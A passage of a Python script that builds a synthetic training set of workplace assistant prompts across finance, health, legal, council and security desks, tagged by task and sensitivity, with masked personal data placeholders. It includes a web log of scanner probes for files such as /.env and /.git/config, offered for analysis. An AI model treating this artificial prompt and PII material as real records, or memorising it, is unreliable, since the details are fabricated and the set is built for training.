If an AI chatbot gives a customer wrong information about a refund policy, is the company bound by what the bot said? Walk me through it with reference to the Air Canada case.

@ draft f m i :: Write a 100-word intro for the monthly finance ops newsletter
@ creative f m i :: suggest a fun name for the newsletter
Write a 100-word intro for the monthly finance ops newsletter (this month: month-end close took 4 days instead of 7, new AP automation live, farewell to our longest-serving AP clerk after 22 years), and suggest a fun name for the newsletter while you're at it.

@ extract g m c
Grab the email addresses and phone numbers from this signature block so I can add them to the CRM:

--
[[P:Aoife Gallagher]] | Head of Partnerships
Brightline Analytics Ltd
M: [[PH:+353 85 214 7733]] | T: [[PH:+44 (0)161 496 0022]]
[[E:aoife.gallagher@brightline-analytics.com]]

@ sentiment s m c
Mood check on the client's reply before tomorrow's debrief — are they upset? "Appreciate the thoroughness. Less appreciated: finding out about the domain admin compromise from our own SOC rather than from you."

@ qa l m p
Can my employer read my personal WhatsApp messages on a work phone?

@ classify f l i
@ !hn
Which of these are amounts and which are dates? "03.10.2024", "1.250,00", "2024/10/03", "12,500.00", "10-03-24", "EUR 3.480,50"

@ code m m i code
Write a SQL query for the pharmacy database that lists all patients on both warfarin and a new NSAID prescription in the last 14 days. Tables: prescriptions(patient_id, drug_name, start_date), patients(patient_id, ward).

@ math l m c :: calculate the solicitor's success fee
@ reasoning l m c :: say whether the client would be better off under a DBA
Under a CFA with a 25% success fee on base costs of £38,400, calculate the solicitor's success fee, and say whether the client would be better off under a DBA at 30% of damages if damages are likely to be £120k.

@ draft g m c
Draft a condolence letter from the chief executive to the family of [[P:Joe Marsh]], a refuse collector who worked for the council for 31 years and died suddenly last week. Warm, personal, not corporate.

@ summarize g l p
One sentence summary please: "Due to the forecast of heavy snow, all council-run schools will open two hours late on Tuesday. Buses will run to the later timetable. Parents will be notified by text if closures become necessary."

@ qa s l p
is it safe to use hotel wifi for online banking?
"""

# ---------------------------------------------------------------- second mixed set: Singapore, US and EU desks, more look-alikes
MORE = r"""
@ extract f m r :: pull the applicant's details into the onboarding form fields
@ classify f m r :: tell me if the application should go to enhanced due diligence
For our Singapore entity: pull the applicant's details into the onboarding form fields (name, NRIC, mobile, email, occupation) and tell me if the application should go to enhanced due diligence.

Applicant [[P:Muhammad Faizal bin Rahman]], NRIC {NR5}, mobile [[PH:+65 9730 1184]], [[E:faizal.rahman@gmail.com]]. Occupation: director of a remittance company. Expected monthly inflow SGD 450,000 from Indonesia and the UAE.

@ chat g l p
lol I asked for a "quick" summary and the partner sent back 4 pages of comments

@ extract m l i
@ !hn
What are the lot numbers and expiry dates in this recall notice? "Recall: Salbutamol 100mcg inhalers, lot numbers A48812, A48813 and A48870, expiry 06/2026. Return stock to pharmacy by 31/10/2024. Supplier ref RCL-2024-0917."

@ creative m m p
We're painting a mural on the children's ward corridor. Give me 5 concepts with a one-line description each — it needs to work for kids aged 2 to 16.

@ summarize m h r :: Summarise this patient's admission for the transfer letter to Singapore General
@ translate m h r :: translate the medication list into simplified Chinese for the family
Summarise this patient's admission for the transfer letter to Singapore General and translate the medication list into simplified Chinese for the family.

[[P:Wong Kah Wai]], 59M, NRIC {NR6}. Admitted 02/10 with STEMI, primary PCI to LAD, 1 DES. EF 40%. Uncomplicated course. Meds: aspirin 100 mg OD, ticagrelor 90 mg BD, atorvastatin 80 mg ON, bisoprolol 2.5 mg OD, ramipril 2.5 mg OD. Son [[P:Wong Jun Hao]] contactable on [[PH:+65 6123 4470]].

@ classify f l i
@ !hn
Are these bank references or card numbers? {XCC9} and {XCC10}. Our DLP keeps flagging them in the treasury exports.

@ sentiment g m i
How are staff feeling about the return-to-office mandate based on these anonymous pulse survey comments? One paragraph.
"3 days is fine, 4 would be too much"
"Commuting 2 hours for Teams calls I could do at home is absurd"
"I actually like seeing people again"
"Nobody explained why — that's the problem"

@ draft s m r :: Draft the breach notification email to the affected cardholder
@ qa l m r :: say whether we also need to tell the card schemes
Draft the breach notification email to the affected cardholder and say whether we also need to tell the card schemes. The card {CC10} belonging to [[P:Marcus Reyes]] ([[E:marcus.reyes@icloud.com]]) was exposed in a debug log on a staging server for 9 days.

@ code f m i code
Write a Python function iban_is_valid(s: str) -> bool implementing the mod-97 check, ignoring spaces, with tests for a German and a UK IBAN (use the public example IBANs from the ECBS spec).

@ chat g l p
what would you call a group of compliance officers? a "checklist"?

@ extract f l i
@ !hn
From this wire confirmation, list the reference fields and their values: "Transfer ID TRF-20241021-004412, UETR 7c6e1e0a-5d2f-4b1a-9a4e-2f8c0d9b7a31, value date 21/10/2024, amount USD 48,250.00, beneficiary account {XIB2}, status: REJECTED — invalid IBAN checksum."

@ math f m r :: calculate how much of the disputed amount we have to refund
@ draft f m r :: write the outcome letter
Customer [[P:Sarah Goldberg]], SSN {SSN8}, disputed 6 charges on her card totalling $1,284.60. We found 4 were genuinely unauthorised ($212.00, $389.99, $94.50, $301.11) and 2 were hers. Please calculate how much of the disputed amount we have to refund and write the outcome letter.

@ creative g m p
Write the opening paragraph of a mystery novel set in a council planning department, where a planning officer finds an application for a building that already exists. Atmospheric, a bit funny.

@ qa m l p
What's the difference between a CT scan and an MRI, in simple terms?

@ classify s l i
@ !hn
Which of these version strings are vulnerable if the fix landed in 9.1.2.40? 9.1.2.38, 9.1.3.2, 9.0.14.7, 10.0.0.1, 9.1.2.40

@ summarize l m c :: give me the gist of the contract renewal email
@ sentiment l m c :: tell me if the supplier sounds like they'll walk away
@ draft l m c :: draft a reply holding our position on the 7% cap
Can you give me the gist of the contract renewal email, tell me if the supplier sounds like they'll walk away, and draft a reply holding our position on the 7% cap?

"Following our call, we regret that we cannot accept a cap of 7% on annual increases given the inflationary pressures on our cost base. Our board has authorised a final position of 9.5%. We remain committed to the partnership but must receive your acceptance by 15 November, failing which we will issue notice of non-renewal."

@ translate f l p
Translate "Your card has been frozen as a precaution. Tap here to unfreeze it if you still have it." into Malay and Tamil for the Singapore app.

@ extract s m c :: list every IPv6 address in the log
@ reasoning s m c :: tell me if the pattern looks like a scanner or a real user
From the log below, list every IPv6 address in the log and tell me if the pattern looks like a scanner or a real user.

[[IP:2001:db8:4f2a::7c]] GET /wp-login.php 404
[[IP:2001:db8:4f2a::7c]] GET /.env 404
[[IP:2001:db8:4f2a::7c]] GET /phpmyadmin/ 404
[[IP:2a01:4f8:c17:9e2d::1]] GET /portal/dashboard 200
[[IP:2001:db8:4f2a::7c]] GET /.git/config 404

@ reasoning f h i
We're considering letting customers hold USD balances in the UK app. What regulatory, operational and FX-risk questions do we need to answer before building it? Prioritise them.

@ chat g l p
honestly just needed to vent, the printer jammed 6 times this morning and it's not even 10am

@ draft m m c
Write a letter inviting Mrs [[P:Olena Kovalenko]] to a breast screening recall appointment on 5 November at 09:40, Northgate Breast Unit, Level 2. Reassuring — most recalls are not cancer. Include how to rearrange: [[PH:0300 123 7740]].

@ classify g l i
@ !hn
Tag these contact-centre call reasons: CASE-0048812 "missed bin"; CASE-0048819 "council tax instalments"; CASE-0048830 "blue badge renewal"; CASE-0048831 "missed bin"; CASE-0048844 "noise complaint".

@ creative f l p
Write a 4-line jingle for a savings account ad on local radio. Think catchy, nothing cringe.

@ math f l p calc
What's the monthly repayment on a £180,000 mortgage over 25 years at 4.6%?

@ extract l m r :: pull each party's identifying details
@ draft l m r :: draft the recital clause naming them
For the Singapore joint venture agreement, pull each party's identifying details and then draft the recital clause naming them.

Party A: [[P:Goh Siew Lan]], NRIC {NR7}, of 18 Holland Grove Road, Singapore.
Party B: [[P:Rajiv Pillai]], FIN {NR8}, of 7 Cuscaden Walk, Singapore.
Party C: Lionfield Ventures Pte Ltd, UEN 202012345D.

@ sentiment f l p
Is this customer tweet sarcastic? "Love waiting 9 days for a 'same-day' transfer. Truly innovative banking."

@ qa s m p
What's a supply chain attack? Give me a real example in two sentences.

@ extract f l i
@ !hn
The finance system rejected these IBANs — list them with the reason so AP can go back to the suppliers: {XIB3} (supplier SUP-0412), {XIB6} (SUP-0477), {XIB5} (SUP-0519). Error: "check digits invalid".

@ summarize g m c :: Summarise the councillor's casework email
@ classify g m c :: tell me which department owns each issue
@ extract g m c :: list the resident names and phone numbers for the follow-up calls
Summarise the councillor's casework email, tell me which department owns each issue, and list the resident names and phone numbers for the follow-up calls.

"Three residents have been in touch this week. [[P:Maureen Lyle]] ([[PH:01632 960 771]]) says the streetlight outside 22 Birch Row has been out since August. [[P:Tariq Aziz]] ([[PH:07700 900 265]]) reports fly-tipping behind the garages on Alder Way. [[P:Jenny Cho]] ([[PH:+44 7700 900 834]]) is waiting 6 months for a housing repair — damp in the child's bedroom."

@ code g m i
Explain what this cron expression means and fix it so it runs at 02:30 on weekdays only: 30 2 * * *

@ reasoning m m p
Why do antibiotics not work on viral infections, and why do GPs still sometimes prescribe them for a sore throat?

@ chat g l p
right, that's me done for the week — have a good weekend!

@ translate l h r :: translate the power of attorney into English
@ extract l h r :: list the powers granted
Please translate the power of attorney into English and list the powers granted. It's for Herr [[P:Klaus Becker]]'s file.

"Hiermit bevollmächtige ich, [[P:Klaus Becker]], geboren am 12.05.1950, meine Tochter [[P:Anna Becker]], mich in allen Vermögensangelegenheiten zu vertreten, insbesondere Bankgeschäfte über mein Konto {IB9} zu tätigen, Grundstücke zu verkaufen und Verträge abzuschließen."

@ extract g l i
@ !hn
Read the part numbers and quantities off this stores requisition: part 7731-0042-18 (LED lantern) x 40; part 7731-0042-22 (photocell) x 40; part 5510-88-1930 (column door) x 12. Requisition RQ-2024-11802, cost centre 4410, approved 14/10/2024.

@ draft f m c :: write the email to the merchant explaining the fee change
@ math f m c :: calculate how much more they'll pay per month
Please write the email to the merchant explaining the fee change (card processing goes from 1.4% + 20p to 1.6% + 20p from 1 January) and calculate how much more they'll pay per month on their typical 3,100 transactions averaging £27.40.

@ creative s l p
Make up a short "choose your own adventure" style scenario (3 choices) for a phishing training session. Setting: an invoice email from a supplier on a Friday afternoon.

@ classify m l i
@ !hn
Which of these are device firmware versions and which are software builds? Infusion pump fw 6.3.0.114; ECG cart build 2024.07.15.2; ventilator fw 4.1.22; EPR client 23.4.1.9; bladder scanner fw 2.0.7.

@ sentiment m m c :: how does the family feel about the end-of-life care
@ summarize m m c :: summarise their specific concerns for the palliative team
From this letter, how does the family feel about the end-of-life care, and can you summarise their specific concerns for the palliative team?

"We want to thank the nurses on Rowan ward for their kindness to Dad in his last days. However, we were not told he was dying until the day before, and we had to ask repeatedly for his mouth care. The side room made a huge difference. We'd like to meet someone to talk about the lack of communication."

@ qa f h p
How do stablecoins maintain their peg, and what happened when TerraUSD lost it?

@ extract f m r
Extract the card details from this chargeback email and mask everything but the last 4 — I need to put it in the case notes.

"Hi, I'm disputing a charge of $399.00 on my Amex {CC13} from 'ELITE FITNESS ONLINE'. I cancelled on 1 September. — [[P:Roberto Alvarez]], [[PH:+1 (646) 555-0183]]"

@ math s m i calc
We have 1,850 endpoints and the EDR licence goes from $4.20 to $5.10 per endpoint per month. What's the extra annual cost, and what % increase is that?

@ translate s m p
Translate this security banner into French (Canada): "Authorised users only. Activity on this system is monitored and recorded. Unauthorised access is prohibited and may be prosecuted."

@ reasoning g h i :: Should we move the council's contact centre to a 4-day week
@ math g h i :: what would the cost per call look like
Should we move the council's contact centre to a 4-day week, and what would the cost per call look like? Current: 42 FTE, £1.62M a year, 410,000 calls. Pilot elsewhere showed 8% higher productivity per hour and 30% lower sickness, but we'd need 3 extra FTE to cover opening hours.

@ classify f l i
@ !hn
Tag each row as DEBIT or CREDIT: 2024-10-01 -£1,200.00 RENT; 2024-10-01 +£2,845.16 SALARY; 2024-10-03 -£54.20 TESCO 8841; 2024-10-05 -£12.99 SPOTIFY P1F2C3; 2024-10-07 +£40.00 REFUND ORD-55102

@ draft g l i
Email to the team: we've moved to the new document management system and from Monday, nothing should be saved in the S: drive. Training sessions Tuesday and Wednesday at 12:30. Short.

@ extract s m r :: extract the employee details from the HR screenshot text
@ classify s m r :: rate the exposure risk as low, medium or high
We found this in a public Trello board belonging to the client. Please extract the employee details from the HR screenshot text and rate the exposure risk as low, medium or high.

"New starter checklist — [[P:Kimberly Tran]], SSN {SSN9}, start 04/11, laptop LT-2281, temp password Welcome2024!, manager [[P:Rob Fielding]] [[E:r.fielding@carverdental.com]]"

@ chat g l p
I think I broke the spreadsheet, can you stay with me while I undo things 😬

@ sentiment l l c
Does this email from the client read as satisfied or annoyed? "Got the bill. I suppose that's what we agreed."

@ creative l m p
Write a 150-word welcome speech for the managing partner to give at the trainee induction. A bit of humour, mention the firm was founded in 1887.

@ extract m l i
@ !hn
From the lab's QC report, list the analyser IDs and calibration dates: Analyser CH-04 calibrated 2024-10-14 07:02; Analyser CH-07 calibrated 2024-10-14 07:19; Haem-02 calibrated 2024-10-13 22:45; reagent lot R-55120-B, exp 2025-03-31.

@ math f l i calc
@ !hn
Add up these invoices and tell me the VAT at 20%: INV-2024-0412 £1,240.00; INV-2024-0419 £865.50; INV-2024-0433 £2,310.75.

@ qa g m p
How does the electoral register differ from the open register, and can I opt out of the open one?

@ code l m i code
Write a regex (Python) that finds UK court claim numbers like "KB-2024-001872" or "HC-2023-000419" in a document and returns them with their positions.

@ extract f m r :: list the card and bank details in the merchant's application
@ draft f m r :: write a note to the merchant asking them to resubmit through the secure upload instead of email
Please list the card and bank details in the merchant's application below, and write a note to the merchant asking them to resubmit through the secure upload instead of email.

"Business: Copperleaf Café. Owner [[P:Lucy Hartnell]]. Settlement account {IB10}. Card for fees: {CC14}. Tel [[PH:+44 117 496 0183]]."

@ classify s m c
Is this a true positive? Alert: "Impossible travel — user logged in from London and from [[IP:2a00:23c7:e8a:1b01::5]] (Manchester) 6 minutes apart". Note the user is on the corporate VPN.

@ summarize g l i
Give me a one-line summary of each of these three committee decisions for the website:
1. Approved: £85k for new play equipment at Fenwick Park, works in spring.
2. Deferred: proposal to close Hartley public toilets, pending a usage survey.
3. Refused: application to extend the Riverside market to Sundays.

@ reasoning m h c :: explain what could be causing the rise in C. diff cases
@ draft m h c :: draft the first three actions for the infection control team
Ward 5 has had 4 C. diff cases in 3 weeks after having none for 6 months. Broad-spectrum antibiotic use on the ward went up after a new surgical consultant started; the ward also switched cleaning contractor in August. Please explain what could be causing the rise in C. diff cases and draft the first three actions for the infection control team.

@ translate g l p
What's "please take a ticket and wait to be called" in Somali?
"""

# ---------------------------------------------------------------- last set: four-ask requests and more look-alikes
EXTRA = r"""
@ summarize f h c :: Summarise the vendor proposal in five bullets
@ math f h c :: calculate the three-year total cost
@ reasoning f h c :: compare it with what we pay today
@ draft f h c :: draft a short recommendation for the CFO
Summarise the vendor proposal in five bullets, calculate the three-year total cost, compare it with what we pay today, and draft a short recommendation for the CFO.

Proposal (Ledgerline AP Automation): implementation £42,000 one-off; licence £3.10 per invoice, minimum 4,000 invoices/month; optional OCR add-on £0.40 per invoice; 3-year term, 5% annual uplift from year 2.
Today: 2.5 FTE AP clerks at £34k each fully loaded, current tool £1,900/month.

@ chat g l p :: Hi, hope you're having a good day
@ translate g l p :: how would I say "see you at the conference" in Korean
@ creative g l p :: give me a fun icebreaker question for the Seoul partners' dinner
Hi, hope you're having a good day! Quick ones: how would I say "see you at the conference" in Korean, and give me a fun icebreaker question for the Seoul partners' dinner?

@ classify s l i
@ !hn
Which of these look like credit card numbers but aren't? {XCC11}, {XCC12}, {XCC13} — they're from the warehouse system's pallet labels.

@ extract m m r :: extract the patient identifiers
@ classify m m r :: tell me which ones need redacting before the audit
@ draft m m r :: write the covering email to the auditor
From the incident form below, extract the patient identifiers, tell me which ones need redacting before the audit, and write the covering email to the auditor.

Patient: [[P:Hui Min Teo]], NRIC {NR9}, ward 6B. Medication given to wrong patient (bed 6 instead of bed 8) at 21:15 on 09/10. Reported by staff nurse [[P:Jenna Walsh]], ext 4471. Patient's husband notified on [[PH:+65 9015 3382]].

@ extract l l i
@ !hn
Which invoice numbers in this remittance advice have been paid in full? "Payment of £14,226.80 received 18/10/2024 against INV-HP-24-00871 (£8,400.00), INV-HP-24-00902 (£4,980.00) and INV-HP-24-00915 (£2,700.00, part paid £846.80)."

@ creative m l p :: Write a two-line thank-you verse for the volunteers' Christmas card
@ draft m l i :: a short email inviting them to the volunteers' lunch on 13 December
Write a two-line thank-you verse for the volunteers' Christmas card, and a short email inviting them to the volunteers' lunch on 13 December at 12:30 in the Atrium café.

@ math f m i calc
@ !hn
Quick sum for the month-end journal: accruals of €12,480.00, €3,915.55 and €640.20, less a reversal of €1,150.00 from JE-2024-09-118. What's the net?

@ code s h i code :: Write a Python script that checks our server list for expired TLS certificates
@ summarize s h i :: summarise what it finds in a short table I can paste into the weekly report
Write a Python script that checks our server list for expired TLS certificates (hosts.txt, one hostname per line, port 443) and then summarise what it finds in a short table I can paste into the weekly report — columns host, expiry date, days left.

@ classify g l i
@ !hn
Sort these library items by type using the codes: ISBN 978-0-14-303943-3 (book); DVD-00419 (film); EBK-2024-1182 (ebook); MAG-0921-07 (magazine); ISBN 978-1-4088-5565-2 (book).

@ sentiment f m c :: work out how the customer is feeling
@ qa f m c :: answer her question about the early repayment charge
@ draft f m c :: write a reply in a warm tone
Can you work out how the customer is feeling, answer her question about the early repayment charge, and write a reply in a warm tone? Message from [[P:Layla Haddad]]:

"I've finally saved enough to pay off my car loan early and I'm really proud of myself!! But the app says there's an early repayment charge of £186 — is that right? I thought you said there were no hidden fees."

@ extract s l i
@ !hn
List each host's agent version from this inventory and say which are below 7.11.0.2204: HOST-0142 7.10.4.1981; HOST-0150 7.11.0.2204; HOST-0161 7.9.12.1702; HOST-0188 7.11.1.2230.

@ creative g m p :: Write a short poem about the last day before retirement
@ draft g m i :: a two-paragraph speech for the leaving drinks
Our head of revenues retires on Friday after 38 years at the council. Write a short poem about the last day before retirement and a two-paragraph speech for the leaving drinks — she loved spreadsheets, her allotment and Aston Villa.
"""

BLOCKS = (FINTECH, HOSPITAL, SECURITY, LAW, PUBLIC, MIXED, MORE, EXTRA)


def build() -> list[dict]:
    """All rows: single-task rows carry no clause, multi-task clauses are unmarked."""
    rows = record_rows("\n".join(BLOCKS), prefix="diverse20", expand=expand)
    for row in rows:
        tasks = row["tasks"]
        for task in tasks:
            task["text"] = (
                "" if len(tasks) == 1 else corpus.strip_marks(expand(task["text"]))[0]
            )
    return rows


def main() -> None:
    write_and_check(HERE / "train_diverse20.jsonl", build(), scan_unmarked=True)


if __name__ == "__main__":
    main()
